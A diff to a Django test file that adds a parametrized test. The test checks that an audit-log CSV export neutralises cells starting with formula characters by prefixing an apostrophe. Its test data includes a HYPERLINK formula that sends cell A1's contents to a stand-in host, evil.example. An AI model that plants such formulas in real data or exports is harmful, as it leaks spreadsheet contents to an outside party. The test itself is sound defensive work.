@@ -4,10 +4,14 @@ as a formula in a spreadsheet."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
+from tenants.models import AuditEvent
 from tests.test_api_support import api, assert_problem, world  # noqa: F401 - fixtures
 
 # The security review's URLs: each was a server error on PostgreSQL, which refuses a NUL in
@@ -81,3 +85,22 @@ def test_a_nul_in_an_api_path_is_a_validation_problem_not_a_404(world):  # noqa:
                  "/api/v1/tenants/pay%E2%80%AEments/"):
         body = assert_problem(api(world.admin).get(path), 400, "validation-error")
         assert "The path holds" in body["detail"]
+
+
+# --- the audit CSV -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_audit_csv_cells_a_spreadsheet_would_evaluate_are_defused(client, world, start):  # noqa: F811
+    """A name a tenant chose ends up in the audit log; opened in a spreadsheet, a cell
+    starting with a formula character (or a tab or carriage return before one) must stay
+    text: it starts with an apostrophe."""
+    hostile = f"{start}HYPERLINK(\"https://evil.example/?\"&A1)"
+    AuditEvent.objects.create(actor_label=hostile, action="tenant.update", object_type="tenant",
+                              object_id="1", object_repr=hostile, tenant=world.payments)
+    client.force_login(world.admin)
+    export = client.get("/audit/", {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode(),
+                                           newline="")))
+    row = next(row for row in rows if row["action"] == "tenant.update")
+    assert row["actor"] == row["object"] == f"'{hostile}"
